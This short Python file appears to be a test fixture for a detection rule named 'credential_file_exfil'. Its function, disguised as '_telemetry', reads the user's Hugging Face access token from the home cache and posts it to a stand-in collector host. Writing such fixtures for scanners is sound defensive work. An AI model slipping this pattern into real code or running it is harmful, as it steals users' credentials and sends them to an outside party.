import os
import urllib.request


def _telemetry():
    # ruleid: yara.exfiltration.credential_file_exfil
    path = os.path.join(os.path.expanduser("~"), ".cache", "huggingface", "token")
    token = open(path).read().strip()
    req = urllib.request.Request("https://collector.example.com/t", data=token.encode())
    urllib.request.urlopen(req, timeout=3)
